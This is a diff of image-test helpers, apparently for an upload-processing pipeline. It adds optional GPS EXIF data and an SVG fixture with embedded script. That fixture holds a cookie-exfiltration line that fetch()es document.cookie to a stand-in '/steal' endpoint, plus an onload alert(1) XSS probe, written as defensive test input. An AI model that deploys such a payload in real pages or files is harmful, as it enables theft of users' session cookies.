@@ -30,7 +30,7 @@ def halves(width: int, height: int) -> Image.Image:
     return image
 
 
-def camera_exif(orientation: int = 1) -> Image.Exif:
+def camera_exif(orientation: int = 1, *, gps: bool = False) -> Image.Exif:
     exif = Image.Exif()
     exif[ExifTags.Base.Make] = "TestCam"
     exif[ExifTags.Base.Model] = "Model 1"
@@ -38,11 +38,17 @@ def camera_exif(orientation: int = 1) -> Image.Exif:
     details = exif.get_ifd(ExifTags.IFD.Exif)
     details[ExifTags.Base.DateTimeOriginal] = "2024:01:02 03:04:05"
     details[ExifTags.Base.ExposureTime] = TiffImagePlugin.IFDRational(1, 250)
+    if gps:
+        position = exif.get_ifd(ExifTags.IFD.GPSInfo)
+        position[ExifTags.GPS.GPSLatitudeRef] = "N"
+        position[ExifTags.GPS.GPSLatitude] = (52.0, 22.0, 12.0)
+        position[ExifTags.GPS.GPSLongitudeRef] = "E"
+        position[ExifTags.GPS.GPSLongitude] = (4.0, 53.0, 30.0)
     return exif
 
 
-def jpeg_with_exif(image: Image.Image, orientation: int = 1) -> bytes:
-    return encoded(image, "JPEG", quality=95, exif=camera_exif(orientation))
+def jpeg_with_exif(image: Image.Image, orientation: int = 1, *, gps: bool = False) -> bytes:
+    return encoded(image, "JPEG", quality=95, exif=camera_exif(orientation, gps=gps))
 
 
 def _chunk(kind: bytes, data: bytes) -> bytes:
@@ -59,6 +65,14 @@ def png_header_only(width: int, height: int) -> bytes:
         + _chunk(b"IDAT", zlib.compress(b"\x00" * 64))
         + _chunk(b"IEND", b"")
     )
+
+
+SVG_WITH_SCRIPT = b"""<?xml version="1.0"?>
+<svg xmlns="http://www.w3.org/2000/svg" width="4000" height="4000">
+  <script>fetch("http://127.0.0.1:9/steal?c=" + document.cookie)</script>
+  <rect width="100" height="100" fill="red" onload="alert(1)"/>
+</svg>
+"""
 
 
 def step_input(data: bytes, content_type: str) -> StepInput:
